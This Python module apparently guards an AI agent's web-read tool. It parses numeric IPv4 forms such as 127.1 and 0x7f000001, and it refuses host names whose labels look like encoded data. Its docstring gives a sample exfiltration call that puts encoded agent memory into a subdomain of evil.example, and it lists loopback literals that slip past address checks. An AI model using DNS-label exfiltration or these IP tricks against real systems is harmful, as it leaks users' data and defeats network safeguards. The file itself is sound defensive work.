"""What a URL's host may be before anything is asked of a resolver: an IP address, or a plain name.

Two leaks happen before an address check can run:
- An IP literal in a form the system resolver accepts but `ipaddress` does not — `127.1`,
  `0x7f000001`, `2130706433`, `0177.0.0.1` — would go to getaddrinfo as a name. Here every such
  form is read as the resolver (and a browser, WHATWG URL §4.4) reads it, so the address is
  checked without a resolver call; a host that ends in a number but is no valid address
  (`1.2.3.4.5`, `08.1`) is refused.
- A name is itself a message: `web_read("https://<memory, encoded>.evil.example/")` delivers
  the data to the attacker's name server at the lookup, whatever the address check says later.
  A host is resolved only if it looks like a name a site has: at most MAX_HOST_CHARS and
  MAX_LABELS labels, letters, digits and hyphens only (after IDNA), and no label that reads as
  encoded data (a long hex run, a long number, a long label mixing letters and digits at
  random). This bounds what a lookup can carry; holding web calls after untrusted content is
  the rule that stops the rest.
"""

from __future__ import annotations

import ipaddress
import re
from itertools import pairwise

from web.errors import BadUrlError

IPAddress = ipaddress.IPv4Address | ipaddress.IPv6Address

MAX_HOST_CHARS = 253  # DNS's own limit on a name
MAX_LABEL_CHARS = 63  # DNS's own limit on a label
MAX_LABELS = 8  # real sites' names have 2–5 (cdn.assets.eu.example.co.uk is 6)
HEX_RUN = 16  # a label this long of hex digits, with digits and letters both: a hash or dump
NUMBER_RUN = 20  # a label this long of digits only
MIXED_LABEL = 20  # a label this long that switches between letters and digits…
MIXED_SWITCHES = 6  # …this often reads as base32/base64, not as words
_LDH = re.compile(r"[a-z0-9](?:[a-z0-9-]*[a-z0-9])?")
_HEX = frozenset("0123456789abcdef")


def plain_host(host: str) -> str | IPAddress:
    """`host` (a URL's host, ASCII after IDNA) as the address it spells, or as a name fit for
    a resolver; raises BadUrlError for anything else."""
    bare = host.strip("[]")
    try:
        return ipaddress.ip_address(bare)
    except ValueError:
        pass
    name = host.lower().rstrip(".")
    labels = name.split(".")
    if _ends_in_number(labels[-1]):
        address = _numeric_ipv4(labels)
        if address is None:
            raise BadUrlError(f"not a valid IP address: {host[:80]}")
        return address
    _check_name(host, name, labels)
    return name


def _check_name(host: str, name: str, labels: list[str]) -> None:
    shown = host[:80]
    if not name.isascii() or len(name) > MAX_HOST_CHARS:
        raise BadUrlError(f"not a host name web reads use: {shown}")
    if len(labels) > MAX_LABELS:
        raise BadUrlError(
            f"refused: {shown} has more than {MAX_LABELS} labels, not a plain host name"
        )
    for label in labels:
        if len(label) > MAX_LABEL_CHARS or not _LDH.fullmatch(label):
            raise BadUrlError(
                f"not a host name web reads use (letters, digits and hyphens only): {shown}"
            )
        if looks_encoded(label):
            raise BadUrlError(f"refused: {shown} carries a label that reads as encoded data")


def looks_encoded(label: str) -> bool:
    """Whether one label reads as data rather than as a name (see the module docstring)."""
    digits = sum(c.isdigit() for c in label)
    letters = sum(c.isalpha() for c in label)
    if len(label) >= HEX_RUN and set(label) <= _HEX and digits and letters:
        return True
    if len(label) >= NUMBER_RUN and digits == len(label):
        return True
    if len(label) >= MIXED_LABEL:
        switches = sum(a.isdigit() != b.isdigit() for a, b in pairwise(label))
        if switches >= MIXED_SWITCHES and "-" not in label:
            return True
    return False


def _ends_in_number(label: str) -> bool:
    """WHATWG's "ends in a number": the last label is digits, or 0x and hex digits."""
    if label.isdigit() and label.isascii():
        return True
    return label.startswith("0x") and all(c in _HEX for c in label[2:])


def _numeric_ipv4(labels: list[str]) -> ipaddress.IPv4Address | None:
    """The address of a host such as 127.1, 0x7f.0.0.1, 017700000001 or 2130706433, read as
    inet_aton and WHATWG read it (1–4 parts, each decimal, 0x-hex or 0-octal, the last one
    filling the remaining bytes), or None when it is none."""
    if not 1 <= len(labels) <= 4:
        return None
    numbers: list[int] = []
    for label in labels:
        number = _number(label)
        if number is None:
            return None
        numbers.append(number)
    *head, last = numbers
    if any(part > 255 for part in head) or last >= 256 ** (5 - len(labels)):
        return None
    value = last
    for index, part in enumerate(head):
        value += part << (8 * (3 - index))
    return ipaddress.IPv4Address(value)


def _number(part: str) -> int | None:
    if not part.isascii():
        return None
    try:
        if part.startswith("0x"):
            return int(part[2:] or "0", 16)
        if len(part) > 1 and part.startswith("0"):
            return int(part[1:], 8)
        return int(part, 10) if part.isdigit() else None
    except ValueError:
        return None
